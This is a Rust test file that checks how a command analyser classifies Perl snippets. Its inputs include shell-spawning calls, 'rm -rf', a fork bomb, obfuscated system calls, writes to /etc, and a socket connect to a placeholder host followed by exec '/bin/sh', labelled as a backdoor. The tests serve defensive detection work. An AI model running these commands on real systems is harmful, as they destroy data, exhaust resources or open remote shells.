use super::{check, harmless};
use crate::command::Language::Perl;

#[test]
fn harmless_perl_passes() {
    harmless(
        Perl,
        &[
            "s/a/b/g",
            "s{^\\s+}{}; s|/|-|g; tr/a-z/A-Z/; y/a/b/",
            "print if /x/ .. /y/",
            "print $1 if m/\\.([^.\\/]+)$/",
            "$sum += $F[1]; END { print \"$sum\\n\" }",
            "print 'system(\"id\")', q{exec}, qq[open], qw(a b)",
            "print $_ / 2, \"\\n\" if $h{s} / 3",
            "eval { die 'x' }; print $@",
            "# system('id')\nprint 1",
            "print \"$h{a}[0] @list $$ $'\" if -s $file",
            "my %h = (s => 1, y => 2, q => 3); print keys %h",
            "print join ',', map { $_ * 2 } grep { /1/ } split /,/, $_",
            "print <<EOF;\nsystem('id') `id`\nEOF\nprint 2",
            "$/ = undef; $_ = <STDIN>; print length",
            "printf \"%d\\n\", $x; $s =~ s/(\\w+)/\\u$1/g",
        ],
    );
}

#[test]
fn perl_that_starts_programs_says_which() {
    check(
        Perl,
        &[
            ("system('ls -l')", "shell ls -l"),
            ("system 'rm', '-rf', '/x'", "run rm -rf /x"),
            ("exec \"/bin/sh\"", "shell /bin/sh"),
            ("exec {'/bin/sh'} 'sh'", "!Spawns"),
            ("print `id`", "shell id"),
            ("print qx{id}", "shell id"),
            ("print qx'id'", "shell id"),
            ("print \"@{[ `id` ]}\"", "shell id"),
            ("print \"a${\\ system('id')}b\"", "shell id"),
            ("s/x/system('id')/e", "shell id"),
            ("s/x/y/ee", "!Evaluates"),
            ("/(?{ system('id') })/", "!Evaluates"),
            ("system($cmd)", "!Spawns"),
            ("system(pack('H*', '6964'))", "!Obfuscates"),
            ("print readpipe('id')", "shell id"),
            ("@ARGV = ('id|'); print <>", "!Spawns"),
            ("use POSIX; POSIX::execl('/bin/sh', 'sh')", "!Spawns"),
            ("open(F, 'id |')", "shell id"),
            ("open F, '| mail x'", "shell mail x"),
            ("open(my $f, '-|', 'ls', '-l')", "run ls -l"),
            ("open(F, $x)", "!Spawns"),
            ("$x . system('id')", "shell id"),
            ("CORE::system('id')", "shell id"),
            ("&{\"CORE::system\"}('id')", "!Evaluates"),
            ("$' . system('id') . $'", "shell id"),
            ("$h{a} / system('id') / 1", "shell id"),
            ("print <<`E`;\nid\nE\n", "shell id\n"),
            ("print <<\"E\";\na @{[ system('id') ]}\nE\n", "shell id"),
            ("eval $x", "!Evaluates"),
            ("eval 'print 1'", "code print 1"),
            ("fork while 1", "!Exhausts"),
            ("print 'a", "!Unclear"),
            ("f /system('id')/ 1", "!Unclear"),
        ],
    );
}

#[test]
fn perl_names_files_and_hosts() {
    check(
        Perl,
        &[
            ("open(F, '>/etc/x')", "write /etc/x"),
            ("open(my $f, '>>', \"/etc/$x\")", "write /etc/?"),
            ("open(my $f, '<', 'a')", "read a"),
            ("unlink 'a', '/etc/b'", "delete a Single; delete /etc/b Single"),
            ("rename 'a', '/etc/b'", "delete a Single; write /etc/b"),
            ("use File::Path; rmtree('/srv')", "delete /srv Tree"),
            (
                "use IO::Socket::INET; $s = IO::Socket::INET->new('a.test:80'); exec '/bin/sh'",
                "connect a.test:80; shell /bin/sh; !Backdoor",
            ),
        ],
    );
}
